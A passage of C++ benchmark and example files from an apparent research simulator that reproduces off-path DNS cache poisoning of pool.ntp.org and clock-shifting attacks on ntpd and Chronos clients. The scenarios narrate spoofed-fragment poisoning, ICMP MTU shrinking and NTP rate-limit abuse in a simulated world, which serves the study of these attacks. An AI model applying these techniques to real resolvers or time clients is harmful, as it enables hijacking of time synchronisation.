    std::printf("  %-14s %12llu %14.0f %14.0f %8.2fx\n", r.name.c_str(),
                static_cast<unsigned long long>(r.events), r.legacy_eps(),
                r.new_eps(), r.speedup());
    speedup_product *= r.speedup();
  }
  double geomean = std::pow(speedup_product, 1.0 / results.size());
  std::printf("  geomean speedup: %.2fx\n", geomean);

  const auto write_json = [scale](const std::string& path,
                                  const std::vector<WorkloadResult>& rs) {
    std::FILE* f = std::fopen(path.c_str(), "w");
    if (!f) {
      std::fprintf(stderr, "cannot write %s\n", path.c_str());
      return false;
    }
    std::fprintf(f, "{\"bench\":\"eventloop\",\"scale\":%llu,\"workloads\":[",
                 static_cast<unsigned long long>(scale));
    double product = 1.0;
    for (std::size_t i = 0; i < rs.size(); ++i) {
      const WorkloadResult& r = rs[i];
      std::fprintf(f,
                   "%s{\"name\":\"%s\",\"events\":%llu,\"legacy_s\":%.4f,"
                   "\"new_s\":%.4f,\"legacy_events_per_sec\":%.0f,"
                   "\"new_events_per_sec\":%.0f,\"speedup\":%.3f}",
                   i ? "," : "", r.name.c_str(),
                   static_cast<unsigned long long>(r.events), r.legacy_s,
                   r.new_s, r.legacy_eps(), r.new_eps(), r.speedup());
      product *= r.speedup();
    }
    std::fprintf(f, "],\"geomean_speedup\":%.3f}\n",
                 std::pow(product, 1.0 / rs.size()));
    std::fclose(f);
    std::printf("  wrote %s\n", path.c_str());
    return true;
  };
  if (!write_json(out_path, results)) return 1;
  if (!baseline_out.empty()) {
    std::vector<WorkloadResult> baseline = results;
    for (std::size_t i = 0; i < baseline.size(); ++i) {
      baseline[i].new_s = baseline_new_s[i];
    }
    if (!write_json(baseline_out, baseline)) return 1;
  }
  return 0;
}
