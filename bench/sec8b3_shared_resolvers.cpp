// §VIII-B3: finding shared DNS resolvers — which web-client resolvers can
// the attacker trigger queries through (directly, or via a co-located
// SMTP host discovered by scanning the resolver's /24).
#include <cstdio>

#include "bench_util.h"
#include "measure/shared_resolver.h"

int main() {
  using namespace dnstime;
  bench::header("Sec. VIII-B3 - shared-resolver discovery");

  measure::SharedResolverScanConfig cfg;
  auto result = measure::discover_shared_resolvers(cfg);

  std::printf("  web-client resolvers: %zu (paper: 18,668; scaled)\n\n",
              result.web_resolvers);
  auto frac = [&](std::size_t n) {
    return bench::pct(static_cast<double>(n) / result.web_resolvers);
  };
  bench::row("only used by web clients", "86.2%", frac(result.only_web));
  bench::row("shared with SMTP servers", "11.3%", frac(result.smtp_shared));
  bench::row("open resolvers", "2.3%", frac(result.open));
  bench::row("open and SMTP-shared", "0.2%", frac(result.open_and_smtp));
  bench::row("=> attacker-triggerable", ">=13.8%",
             frac(result.triggerable()));
  std::printf("\n  SMTP hosts found by the /24 scan: %zu\n",
              result.smtp_hosts_found);
  std::printf(
      "  Shape: a double-digit share of resolvers serving web (and hence\n"
      "  NTP) clients can be made to issue attacker-chosen queries.\n");
  return 0;
}
