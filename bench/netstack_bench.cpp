// Packet-path microbenchmark: the pooled zero-copy packet path (PacketBuf
// payloads, header prepend into headroom, fragment slicing, pooled
// reassembly) versus the frozen pre-refactor Bytes path in
// legacy_packet_path.h, on the three shapes the paper's campaigns hammer:
//
//   flood             unfragmented small datagrams, serialize -> deliver ->
//                     checksum-verify -> parse (NTP mode-3 floods,
//                     rate-limit probes — the single hottest pattern);
//   fragment_spray    a large datagram fragmented at the attack MTU, every
//                     fragment through the reassembly cache, reassembled
//                     and parsed (the §III fragment-spray path);
//   request_response  small query out, fragmented response back through
//                     reassembly (the resolver/nameserver transaction).
//
// Both sides do identical logical work through their own types; results go
// to stdout and to a JSON file (default BENCH_netstack.json) with the same
// shape as BENCH_eventloop.json, tracked per commit by the CI release-bench
// job.
#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <utility>
#include <vector>

#include "bench_util.h"
#include "common/buffer.h"
#include "common/bytes.h"
#include "common/rng.h"
#include "legacy_packet_path.h"
#include "net/fragmentation.h"
#include "net/reassembly.h"
#include "net/udp.h"
#include "obs/provenance.h"

namespace dnstime::bench {
namespace {

constexpr Ipv4Addr kSrc{198, 51, 100, 53};
constexpr Ipv4Addr kDst{10, 53, 0, 1};

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                       start)
      .count();
}

Bytes make_pattern(std::size_t n, u64 seed) {
  Rng rng{seed};
  Bytes out(n);
  for (auto& b : out) b = static_cast<u8>(rng.uniform(0, 255));
  return out;
}

// --- the two paths, same logical work ---------------------------------------

struct LegacyPath {
  using Packet = bench_legacy::Ipv4Packet;
  using Cache = bench_legacy::ReassemblyCache;

  static Packet make_udp_packet(std::span<const u8> pattern, u16 id) {
    bench_legacy::UdpDatagram d{
        .src_port = 123,
        .dst_port = 123,
        .payload = bench_legacy::Bytes(pattern.begin(), pattern.end())};
    Packet pkt;
    pkt.src = kSrc;
    pkt.dst = kDst;
    pkt.id = id;
    pkt.payload = bench_legacy::encode_udp(d, kSrc, kDst);
    return pkt;
  }
  static std::vector<Packet> fragment(const Packet& pkt, u16 mtu) {
    return bench_legacy::fragment(pkt, mtu);
  }
  static std::size_t parse(const Packet& pkt) {
    return bench_legacy::decode_udp(pkt.payload, pkt.src, pkt.dst)
        .payload.size();
  }
};

struct PooledPath {
  using Packet = net::Ipv4Packet;
  using Cache = net::ReassemblyCache;

  static Packet make_udp_packet(std::span<const u8> pattern, u16 id) {
    ByteWriter w;
    w.write_bytes(pattern);
    Packet pkt;
    pkt.src = kSrc;
    pkt.dst = kDst;
    pkt.id = id;
    pkt.payload = net::encode_udp_buf(std::move(w).take_buf(), 123, 123,
                                      kSrc, kDst);
    // No-op unless --flight-recorder installed one; with it, every packet
    // exercises the provenance stamp path the overhead gate measures.
    DNSTIME_PROV_STAMP(pkt.payload, 0, OriginModule::kAttacker, 0);
    return pkt;
  }
  static std::vector<Packet> fragment(const Packet& pkt, u16 mtu) {
    return net::fragment(pkt, mtu);
  }
  static std::size_t parse(const Packet& pkt) {
    return net::decode_udp_buf(pkt.payload, pkt.src, pkt.dst).payload.size();
  }
};

// --- workloads ---------------------------------------------------------------

/// Unfragmented datagram: serialize, deliver, verify + parse.
template <class Path>
u64 flood(u64 iterations, std::span<const u8> pattern) {
  u64 packets = 0;
  std::size_t consumed = 0;
  for (u64 i = 0; i < iterations; ++i) {
    auto pkt = Path::make_udp_packet(pattern, static_cast<u16>(i));
    consumed += Path::parse(pkt);
    packets++;
  }
  if (consumed == 0) std::abort();  // defeat over-optimisation
  return packets;
}

/// Large datagram fragmented at `mtu`; every fragment through the
/// reassembly cache; the completed datagram parsed.
template <class Path>
u64 fragment_spray(u64 iterations, std::span<const u8> pattern, u16 mtu) {
  typename Path::Cache cache;
  u64 packets = 0;
  std::size_t consumed = 0;
  for (u64 i = 0; i < iterations; ++i) {
    auto pkt = Path::make_udp_packet(pattern, static_cast<u16>(i));
    for (auto& frag : Path::fragment(pkt, mtu)) {
      packets++;
      if (auto full = cache.insert(frag, sim::Time{})) {
        consumed += Path::parse(*full);
      }
    }
  }
  if (consumed == 0) std::abort();
  return packets;
}

/// Small query out; fragmented response back through reassembly.
template <class Path>
u64 request_response(u64 iterations, std::span<const u8> query,
                     std::span<const u8> response, u16 mtu) {
  typename Path::Cache cache;
  u64 packets = 0;
  std::size_t consumed = 0;
  for (u64 i = 0; i < iterations; ++i) {
    auto q = Path::make_udp_packet(query, static_cast<u16>(2 * i));
    consumed += Path::parse(q);
    packets++;
    auto r = Path::make_udp_packet(response, static_cast<u16>(2 * i + 1));
    for (auto& frag : Path::fragment(r, mtu)) {
      packets++;
      if (auto full = cache.insert(frag, sim::Time{})) {
        consumed += Path::parse(*full);
      }
    }
  }
  if (consumed == 0) std::abort();
  return packets;
}

struct WorkloadResult {
  std::string name;
  u64 packets = 0;
  double legacy_s = 0.0;
  double new_s = 0.0;
  [[nodiscard]] double legacy_pps() const {
    return static_cast<double>(packets) / legacy_s;
  }
  [[nodiscard]] double new_pps() const {
    return static_cast<double>(packets) / new_s;
  }
  [[nodiscard]] double speedup() const { return legacy_s / new_s; }
};

/// Min-of-N wall time: rerun the workload `repeat` times and keep the
/// fastest run.  A single run carries scheduler jitter far larger than
/// the 2% instrumentation budget the overhead gate enforces; the minimum
/// is the standard noise-robust estimator for a deterministic workload.
template <class Fn>
double timed(int repeat, Fn&& fn) {
  double best = 0.0;
  for (int i = 0; i < repeat; ++i) {
    auto start = std::chrono::steady_clock::now();
    fn();
    double s = seconds_since(start);
    if (i == 0 || s < best) best = s;
  }
  return best;
}

/// Min-of-N with the flight recorder toggled per repeat: each iteration
/// times the workload back to back with the recorder uninstalled and
/// installed, alternating which half goes first (ABBA), so both
/// measurements see the same machine conditions and neither side
/// systematically lands on the hotter or cooler slot.  Cross-process
/// comparisons drown a 2% budget in scheduler noise; this paired
/// in-process form is what the flight-recorder overhead gate uses.
template <class Fn>
std::pair<double, double> timed_toggled(int repeat,
                                        obs::FlightRecorder* recorder,
                                        Fn&& fn) {
  double best_off = 0.0;
  double best_on = 0.0;
  for (int i = 0; i < repeat; ++i) {
    const bool on_first = (i % 2) != 0;
    for (int half = 0; half < 2; ++half) {
      const bool with_recorder = (half == 0) == on_first;
      double s;
      if (with_recorder) {
        obs::ScopedFlightRecorder install(recorder);
        auto start = std::chrono::steady_clock::now();
        fn();
        s = seconds_since(start);
      } else {
        auto start = std::chrono::steady_clock::now();
        fn();
        s = seconds_since(start);
      }
      double& best = with_recorder ? best_on : best_off;
      if (i == 0 || s < best) best = s;
    }
  }
  return {best_off, best_on};
}

}  // namespace
}  // namespace dnstime::bench

int main(int argc, char** argv) {
  using namespace dnstime;
  using namespace dnstime::bench;

  u64 scale = 400'000;
  int repeat = 3;
  std::string out_path = "BENCH_netstack.json";
  std::string baseline_out;
  bool flight_on = false;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--scale") == 0 && i + 1 < argc) {
      scale = std::strtoull(argv[++i], nullptr, 10);
    } else if (std::strcmp(argv[i], "--repeat") == 0 && i + 1 < argc) {
      repeat = std::atoi(argv[++i]);
      if (repeat < 1) repeat = 1;
    } else if (std::strcmp(argv[i], "--out") == 0 && i + 1 < argc) {
      out_path = argv[++i];
    } else if (std::strcmp(argv[i], "--baseline-out") == 0 && i + 1 < argc) {
      baseline_out = argv[++i];
    } else if (std::strcmp(argv[i], "--flight-recorder") == 0) {
      flight_on = true;
    } else {
      std::fprintf(stderr,
                   "usage: %s [--scale N] [--repeat N] [--out FILE] "
                   "[--flight-recorder [--baseline-out FILE]]\n",
                   argv[0]);
      return 2;
    }
  }
  if (!baseline_out.empty() && !flight_on) {
    std::fprintf(stderr, "--baseline-out requires --flight-recorder\n");
    return 2;
  }

  // With --flight-recorder the pooled path runs exactly as a trial does
  // under the always-on recorder: every packet stamped, every completed
  // reassembly recorded into the ring. Each repeat times the pooled path
  // back to back with the recorder off and on (timed_toggled), and
  // --baseline-out writes the recorder-off numbers as a matched baseline
  // JSON, so the ≤2% overhead gate (tools/check_bench_overhead.py)
  // compares two measurements taken in the same process under the same
  // machine conditions.
  obs::FlightRecorder flight;
  if (flight_on) flight.set_meta("bench/netstack", 0x5eed, 0, 0x5eed);

  header(flight_on
             ? "packet path: pooled zero-copy vs pre-refactor copy path "
               "(flight recorder ON)"
             : "packet path: pooled zero-copy vs pre-refactor copy path");

  // 48 B = an NTP mode-3 query; 1172 B at MTU 296 = the attack's fragmented
  // DNS response shape (5 fragments); 64 B / 900 B at MTU 576 = a DNS
  // transaction with a fragmented answer.
  Bytes flood_pattern = make_pattern(48, 1);
  Bytes spray_pattern = make_pattern(1172, 2);
  Bytes query_pattern = make_pattern(64, 3);
  Bytes response_pattern = make_pattern(900, 4);

  std::vector<WorkloadResult> results;
  std::vector<double> baseline_new_s;  // recorder-off pooled-path seconds
  const auto measure_new = [&](auto&& fn) {
    if (!flight_on) return timed(repeat, fn);
    auto [off, on] = timed_toggled(repeat, &flight, fn);
    baseline_new_s.push_back(off);
    return on;
  };
  {
    WorkloadResult r{.name = "flood"};
    r.legacy_s =
        timed(repeat, [&] { flood<LegacyPath>(scale, flood_pattern); });
    r.new_s = measure_new([&] { flood<PooledPath>(scale, flood_pattern); });
    r.packets = scale;
    results.push_back(r);
  }
  {
    WorkloadResult r{.name = "fragment_spray"};
    u64 packets = 0;
    r.legacy_s = timed(repeat, [&] {
      packets = fragment_spray<LegacyPath>(scale / 4, spray_pattern, 296);
    });
    r.new_s = measure_new([&] {
      (void)fragment_spray<PooledPath>(scale / 4, spray_pattern, 296);
    });
    r.packets = packets;
    results.push_back(r);
  }
  {
    WorkloadResult r{.name = "request_response"};
    u64 packets = 0;
    r.legacy_s = timed(repeat, [&] {
      packets = request_response<LegacyPath>(scale / 4, query_pattern,
                                             response_pattern, 576);
    });
    r.new_s = measure_new([&] {
      (void)request_response<PooledPath>(scale / 4, query_pattern,
                                         response_pattern, 576);
    });
    r.packets = packets;
    results.push_back(r);
  }

  std::printf("  %-18s %12s %14s %14s %9s\n", "workload", "packets",
              "legacy pkt/s", "new pkt/s", "speedup");
  std::printf("  ");
  for (int i = 0; i < 70; ++i) std::printf("-");
  std::printf("\n");
  double speedup_product = 1.0;
  for (const WorkloadResult& r : results) {
    std::printf("  %-18s %12llu %14.0f %14.0f %8.2fx\n", r.name.c_str(),
                static_cast<unsigned long long>(r.packets), r.legacy_pps(),
                r.new_pps(), r.speedup());
    speedup_product *= r.speedup();
  }
  double geomean = std::pow(speedup_product, 1.0 / results.size());
  std::printf("  geomean speedup: %.2fx\n", geomean);

  const auto write_json = [scale](const std::string& path,
                                  const std::vector<WorkloadResult>& rs) {
    std::FILE* f = std::fopen(path.c_str(), "w");
    if (!f) {
      std::fprintf(stderr, "cannot write %s\n", path.c_str());
      return false;
    }
    std::fprintf(f, "{\"bench\":\"netstack\",\"scale\":%llu,\"workloads\":[",
                 static_cast<unsigned long long>(scale));
    double product = 1.0;
    for (std::size_t i = 0; i < rs.size(); ++i) {
      const WorkloadResult& r = rs[i];
      std::fprintf(f,
                   "%s{\"name\":\"%s\",\"packets\":%llu,\"legacy_s\":%.4f,"
                   "\"new_s\":%.4f,\"legacy_packets_per_sec\":%.0f,"
                   "\"new_packets_per_sec\":%.0f,\"speedup\":%.3f}",
                   i ? "," : "", r.name.c_str(),
                   static_cast<unsigned long long>(r.packets), r.legacy_s,
                   r.new_s, r.legacy_pps(), r.new_pps(), r.speedup());
      product *= r.speedup();
    }
    std::fprintf(f, "],\"geomean_speedup\":%.3f}\n",
                 std::pow(product, 1.0 / rs.size()));
    std::fclose(f);
    std::printf("  wrote %s\n", path.c_str());
    return true;
  };
  if (!write_json(out_path, results)) return 1;
  if (!baseline_out.empty()) {
    std::vector<WorkloadResult> baseline = results;
    for (std::size_t i = 0; i < baseline.size(); ++i) {
      baseline[i].new_s = baseline_new_s[i];
    }
    if (!write_json(baseline_out, baseline)) return 1;
  }
  return 0;
}
