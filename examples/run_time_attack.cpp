// Scenario example: the §IV-B run-time attack against a running ntpd
// (Fig. 3), narrated step by step.
//
// The victim is already synchronised to honest pool servers; the attacker
//  1. hijacks the pool.ntp.org delegation in the victim resolver's cache
//     (fragmentation cache poisoning),
//  2. discovers the victim's upstream servers from the refid of the
//     victim's own NTP responses (scenario P2),
//  3. silences each discovered server towards the victim by abusing NTP
//     rate limiting with spoofed mode-3 floods,
//  4. waits: the client demobilises dead associations, drops below
//     NTP_MINCLOCK, re-queries DNS — and receives the attacker's fleet.
#include <cstdio>

#include "attack/query_trigger.h"
#include "attack/run_time_attack.h"
#include "ntp/clients/ntpd.h"
#include "scenario/world.h"

using namespace dnstime;

int main() {
  scenario::World world;
  const Ipv4Addr victim_addr{10, 77, 0, 1};

  // Victim: default ntpd — client and server in one, pool directive.
  auto& victim = world.add_host(victim_addr);
  ntp::ClientBaseConfig cfg;
  cfg.resolver = world.resolver_addr();
  ntp::NtpdClient client(*victim.stack, victim.clock, cfg);
  ntp::NtpServer victim_server(*victim.stack, victim.clock,
                               ntp::ServerConfig{});
  client.attach_server(&victim_server);
  client.start();
  world.run_for(sim::Duration::minutes(12));
  std::printf("[t=%s] victim synchronised, offset %+.3f s, %zu upstreams\n",
              world.loop().now().to_string().c_str(), victim.clock.offset(),
              client.association_count());

  // Step 1: poison the delegation.
  attack::CachePoisoner poisoner(world.attacker(),
                                 world.default_poisoner_config());
  poisoner.start();
  world.run_for(sim::Duration::seconds(20));
  attack::QueryTrigger::via_open_resolver(
      world.attacker(), world.resolver_addr(),
      dns::DnsName::from_string("pool.ntp.org"));
  world.run_for(sim::Duration::seconds(10));
  std::printf("[t=%s] delegation hijacked: %s (%llu fragments planted)\n",
              world.loop().now().to_string().c_str(),
              world.delegation_hijacked() ? "yes" : "no",
              static_cast<unsigned long long>(poisoner.fragments_planted()));

  // Steps 2-4: refid discovery + rate-limit abuse until the clock shifts.
  attack::RunTimeConfig rc;
  rc.discovery = attack::RunTimeConfig::Discovery::kRefidLeak;
  rc.victim = victim_addr;
  attack::RunTimeAttack attack(world.attacker(), rc);
  sim::Time start = world.loop().now();
  attack.run(
      [&] { return victim.clock.offset() < -400.0; },
      [&](const attack::AttackOutcome& outcome) {
        std::printf("[t=%s] attack %s after %.0f minutes; discovered %zu "
                    "upstreams via refid\n",
                    outcome.at.to_string().c_str(),
                    outcome.success ? "SUCCEEDED" : "failed",
                    (outcome.at - start).to_seconds() / 60.0,
                    attack.discovered().size());
      });
  // Advance until the shift lands (the orchestrator stops the flood once
  // the success check fires; afterwards surviving honest servers would
  // begin pulling the clock back, so we stop at the moment of success).
  bool shifted = false;
  for (int i = 0; i < 24 && !shifted; ++i) {
    world.run_for(sim::Duration::minutes(10));
    shifted = victim.clock.offset() < -400.0;
  }

  std::printf("[t=%s] victim clock offset: %+.1f s\n",
              world.loop().now().to_string().c_str(), victim.clock.offset());
  return shifted ? 0 : 1;
}
