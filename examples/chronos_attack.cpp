// Scenario example: the §VI-C attack against a Chronos-enhanced client.
//
// Chronos samples time from a large pool gathered via 24 hourly DNS
// queries and is provably safe against a MitM flipping NTP responses —
// but one poisoned DNS response with 89 attacker addresses and TTL > 24 h,
// landing before the 12th hourly query, hands the attacker more than 2/3
// of the pool and with it the clock.
#include <cstdio>

#include "attack/chronos_attack.h"
#include "chronos/chronos_client.h"
#include "scenario/world.h"

using namespace dnstime;

int main() {
  scenario::WorldConfig wc;
  wc.pool_size = 96;
  wc.attacker_ntp_count = 89;  // max A records in one unfragmented response
  wc.rate_limit_fraction = 0.0;
  scenario::World world(wc);

  auto& victim = world.add_host(Ipv4Addr{10, 77, 0, 2});
  ntp::ClientBaseConfig cfg;
  cfg.resolver = world.resolver_addr();
  chronos::ChronosClient client(*victim.stack, victim.clock, cfg);
  client.start();

  // Let N = 6 honest hourly queries complete (24 honest servers), then
  // poison — well inside the N <= 11 window.
  const int honest_rounds = 6;
  world.run_for(sim::Duration::hours(honest_rounds - 1) +
                sim::Duration::minutes(30));
  std::printf("[t=%s] pool after %d honest rounds: %zu servers\n",
              world.loop().now().to_string().c_str(), honest_rounds,
              client.pool_builder().pool().size());

  attack::ChronosAttack attack(
      world.attacker(),
      attack::ChronosAttackConfig{.resolver_addr = world.resolver_addr(),
                                  .malicious_ntp = world.attacker_ntp_addrs()});
  std::printf("[*] closed form: attacker wins for N <= %d; N=%d => %s\n",
              attack::ChronosAttack::max_tolerable_honest_rounds(89),
              honest_rounds,
              attack::ChronosAttack::attacker_wins(honest_rounds) ? "win"
                                                                  : "lose");
  attack.inject_whitebox(world.resolver());

  // Ride out the rest of the pool build and the ensuing updates.
  world.run_for(sim::Duration::hours(27 - honest_rounds));

  std::size_t malicious = 0;
  for (Ipv4Addr addr : client.pool_builder().pool()) {
    if (world.is_attacker_ntp(addr)) malicious++;
  }
  std::printf("[t=%s] final pool: %zu servers, %zu attacker-controlled "
              "(%.0f%%)\n",
              world.loop().now().to_string().c_str(),
              client.pool_builder().pool().size(), malicious,
              100.0 * malicious / client.pool_builder().pool().size());
  std::printf("[*] Chronos updates: %llu accepted, %llu rejected, %llu "
              "panics\n",
              static_cast<unsigned long long>(client.updates_accepted()),
              static_cast<unsigned long long>(client.updates_rejected()),
              static_cast<unsigned long long>(client.panics()));
  std::printf("[*] victim clock offset: %+.1f s (attacker shift: -500 s)\n",
              victim.clock.offset());
  return victim.clock.offset() < -400.0 ? 0 : 1;
}
