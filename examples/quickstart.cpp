// Quickstart: the paper's headline result in ~60 lines.
//
// Build a simulated internet (pool.ntp.org + its nameserver + a victim
// resolver + an off-path attacker), poison the resolver's cache through
// IPv4 fragment injection, boot an ntpd-like client behind that resolver,
// and watch its clock step to the attacker's time.
//
//   $ ./quickstart
#include <cstdio>

#include "attack/boot_time_attack.h"
#include "ntp/clients/ntpd.h"
#include "scenario/world.h"

using namespace dnstime;

int main() {
  // A World wires up the whole topology of Fig. 1: pool nameserver,
  // 16 pool NTP servers, the victim's recursive resolver, and the
  // attacker's host + nameserver + NTP fleet serving time shifted -500 s.
  scenario::World world;

  std::printf("[*] attacker: %s   victim resolver: %s\n",
              world.attacker().addr().to_string().c_str(),
              world.resolver_addr().to_string().c_str());

  // Off-path cache poisoning: forged ICMP shrinks the nameserver's path
  // MTU, a spoofed second fragment (checksum-compensated) overwrites the
  // glue records of pool.ntp.org's delegation, and periodic open-resolver
  // queries keep the cache churning until the poison lands.
  attack::BootTimeConfig cfg;
  cfg.poison = world.default_poisoner_config();
  cfg.trigger = attack::BootTimeConfig::Trigger::kOpenResolver;
  attack::BootTimeAttack attack(world.attacker(), cfg);
  attack.set_success_check([&] { return world.pool_a_poisoned(); });

  attack.run([&](const attack::AttackOutcome& outcome) {
    std::printf("[*] poisoning %s at t=%s after %llu spoofed fragments\n",
                outcome.success ? "SUCCEEDED" : "failed",
                outcome.at.to_string().c_str(),
                static_cast<unsigned long long>(outcome.fragments_planted));
  });
  world.run_for(sim::Duration::minutes(15));

  // The victim boots an ntpd-style client behind the poisoned resolver.
  auto& victim = world.add_host(Ipv4Addr{10, 77, 0, 1});
  ntp::ClientBaseConfig client_cfg;
  client_cfg.resolver = world.resolver_addr();
  ntp::NtpdClient client(*victim.stack, victim.clock, client_cfg);
  client.start();
  world.run_for(sim::Duration::minutes(10));

  std::printf("[*] victim clock offset: %+.1f s (attacker served -500 s)\n",
              victim.clock.offset());
  std::printf("[*] victim's NTP servers:");
  for (Ipv4Addr server : client.current_servers()) {
    std::printf(" %s%s", server.to_string().c_str(),
                world.is_attacker_ntp(server) ? "(attacker!)" : "");
  }
  std::printf("\n");
  return victim.clock.offset() < -400.0 ? 0 : 1;
}
