// Scenario example: a multi-scenario parameter sweep on the campaign
// engine — every sweep point is N independent seeded trials fanned out
// over a worker pool, aggregated into one deterministic report.
//
// Usage: example_campaign_sweep [--trials N] [--threads T] [--seed S]
//                               [--journal DIR] [--resume] [--out PATH]
//                               [--filter PREFIX] [--json] [--workers N]
//   --filter selects scenarios by name prefix (default "sweep/");
//   --json prints the machine-readable report instead of the table;
//   --out writes the report to a file instead of stdout;
//   --journal streams every trial into an on-disk shard journal and
//   --resume continues a journaled campaign that was killed partway;
//   --workers N fans the campaign out over N worker processes (requires
//   --journal) — the report stays byte-identical to a 1-process run.
#include <cstdio>
#include <string>

#include "campaign/cli.h"
#include "campaign/dist/coordinator.h"
#include "campaign/dist/worker.h"
#include "campaign/runner.h"

using namespace dnstime;

int main(int argc, char** argv) {
  campaign::CliOptions defaults;
  defaults.config.trials = 8;
  defaults.filter = "sweep/";
  campaign::CliOptions opts =
      campaign::parse_cli(argc, argv, defaults, /*scenario_flags=*/true);
  if (!opts.ok) return 2;

  auto registry = campaign::ScenarioRegistry::builtin();
  auto scenarios = registry.select(opts.filter);
  if (scenarios.empty()) {
    std::fprintf(stderr, "no scenarios match prefix '%s'\n",
                 opts.filter.c_str());
    return 2;
  }

  // Hidden worker mode: this process was spawned by a coordinator and
  // only executes leases — it prints no banner and writes no report.
  if (opts.dist.worker_mode) {
    return campaign::dist::run_worker(opts.config, scenarios, opts.dist);
  }

  // Banner and progress go to stderr: with --json, stdout is exactly one
  // parseable report.
  std::fprintf(stderr, "campaign: %zu scenario(s) x %u trial(s), seed %llu\n\n",
               scenarios.size(), opts.config.trials,
               static_cast<unsigned long long>(opts.config.seed));
  campaign::CampaignReport report;
  try {
    if (opts.dist.workers >= 2) {
      // Multi-process: per-trial progress lives in the --progress
      // directory (see tools/campaign_watch), not on stderr.
      report = campaign::dist::run_coordinator(opts.config, scenarios,
                                               opts.dist);
    } else {
      campaign::CampaignRunner runner(opts.config);
      u32 done = 0;
      const u32 total =
          static_cast<u32>(scenarios.size()) * opts.config.trials;
      runner.set_progress([&](const campaign::ScenarioSpec& spec,
                              const campaign::TrialResult& r) {
        std::fprintf(stderr, "  [%3u/%3u] %-24s trial %u: %s\n", ++done,
                     total, spec.name.c_str(), r.trial,
                     !r.error.empty() ? "ERROR"
                     : r.success      ? "ok"
                                      : "no-shift");
      });
      report = runner.run(scenarios);
    }
  } catch (const std::exception& e) {
    std::fprintf(stderr, "campaign failed: %s\n", e.what());
    return 1;
  }

  if (opts.out.empty() && !opts.json) {
    std::printf("%s\n", report.to_table().c_str());
    std::printf(
        "The sweep's shape mirrors the paper: fragmentation needs a small\n"
        "attack MTU, the run-time attack leans on the rate-limiting\n"
        "fraction, and shorter pool TTLs shrink the poisoning window.\n");
  } else if (!campaign::write_report(opts, report)) {
    return 1;
  }
  return 0;
}
