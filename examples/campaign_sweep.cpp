// Scenario example: a multi-scenario parameter sweep on the campaign
// engine — every sweep point is N independent seeded trials fanned out
// over a worker pool, aggregated into one deterministic report.
//
// Usage: example_campaign_sweep [--trials N] [--threads T] [--seed S]
//                               [--filter PREFIX] [--json]
//   --filter selects scenarios by name prefix (default "sweep/");
//   --json additionally prints the machine-readable report to stdout.
#include <cstdio>
#include <string>

#include "campaign/cli.h"
#include "campaign/runner.h"

using namespace dnstime;

int main(int argc, char** argv) {
  campaign::CliOptions defaults;
  defaults.config.trials = 8;
  defaults.filter = "sweep/";
  campaign::CliOptions opts =
      campaign::parse_cli(argc, argv, defaults, /*scenario_flags=*/true);
  if (!opts.ok) return 2;

  auto registry = campaign::ScenarioRegistry::builtin();
  auto scenarios = registry.select(opts.filter);
  if (scenarios.empty()) {
    std::fprintf(stderr, "no scenarios match prefix '%s'\n",
                 opts.filter.c_str());
    return 2;
  }

  std::printf("campaign: %zu scenario(s) x %u trial(s), seed %llu\n\n",
              scenarios.size(), opts.config.trials,
              static_cast<unsigned long long>(opts.config.seed));
  campaign::CampaignRunner runner(opts.config);
  u32 done = 0;
  const u32 total = static_cast<u32>(scenarios.size()) * opts.config.trials;
  runner.set_progress([&](const campaign::ScenarioSpec& spec,
                          const campaign::TrialResult& r) {
    std::fprintf(stderr, "  [%3u/%3u] %-24s trial %u: %s\n", ++done, total,
                 spec.name.c_str(), r.trial,
                 !r.error.empty() ? "ERROR" : r.success ? "ok" : "no-shift");
  });
  campaign::CampaignReport report = runner.run(scenarios);

  std::printf("%s\n", report.to_table().c_str());
  std::printf(
      "The sweep's shape mirrors the paper: fragmentation needs a small\n"
      "attack MTU, the run-time attack leans on the rate-limiting\n"
      "fraction, and shorter pool TTLs shrink the poisoning window.\n");
  if (opts.json) {
    std::printf("%s\n", report.to_json().c_str());
  }
  return 0;
}
