// Scenario example: a small-scale end-to-end measurement campaign,
// chaining the paper's §VII/§VIII scans the way the authors did — first
// establish the server-side attack surface, then the resolver-side one,
// then decide whether a given victim is attackable.
#include <cstdio>

#include "analysis/probability.h"
#include "measure/cache_probe.h"
#include "measure/frag_scanner.h"
#include "measure/ratelimit_scanner.h"
#include "measure/shared_resolver.h"

using namespace dnstime;

int main() {
  // 1. Server side: how many pool servers can the run-time attack lean on?
  measure::RateLimitScanConfig rl;
  rl.servers = 300;  // small campaign
  auto rate = measure::scan_pool_rate_limiting(rl);
  std::printf("[1] pool servers: %zu scanned, %.0f%% rate-limit, %.0f%% KoD, "
              "%.1f%% open config\n",
              rate.servers, rate.rate_limit_fraction() * 100,
              rate.kod_fraction() * 100, rate.open_config_fraction() * 100);

  // 2. With that prevalence, how likely is a default ntpd (m=6) to be in
  //    a vulnerable state?
  double p = rate.rate_limit_fraction();
  std::printf("[2] P(vulnerable): ntpd m=6 -> P1=%.1f%%, P2=%.1f%%; "
              "timesyncd m=4 -> P1=%.1f%%\n",
              analysis::p1(4, p) * 100, analysis::p2(6, 4, p) * 100,
              analysis::p1(4, p) * 100);

  // 3. Nameserver side: can we make the NTP domains' nameservers fragment?
  auto pool_ns = measure::scan_pool_nameservers();
  std::printf("[3] pool nameservers: %zu/%zu fragment below 548 B, %zu "
              "signed\n",
              pool_ns.fragment_below_548, pool_ns.nameservers,
              pool_ns.dnssec);

  // 4. Resolver side: which resolvers serve NTP clients, and which can we
  //    trigger queries through?
  measure::CacheProbeConfig cp;
  cp.resolvers = 500;
  auto cache = measure::probe_open_resolvers(cp);
  std::printf("[4] open resolvers: %zu/%zu verified; pool A cached on "
              "%.0f%% (NTP clients present)\n",
              cache.verified, cache.probed,
              cache.rows[1].cached_fraction() * 100);

  measure::SharedResolverScanConfig sr;
  sr.population.web_resolvers = 400;
  auto shared = measure::discover_shared_resolvers(sr);
  std::printf("[5] web-client resolvers: %.1f%% triggerable (open or "
              "SMTP-shared)\n",
              shared.triggerable_fraction() * 100);

  std::printf(
      "\n=> The attack surface of the paper's conclusion: fragmenting\n"
      "   unsigned nameservers + fragment-accepting resolvers serving NTP\n"
      "   clients + rate-limiting NTP servers, all measurable off-path.\n");
  return 0;
}
