// §VIII-A / Table IV / Fig. 6: cache probing of open DNS resolvers.
//
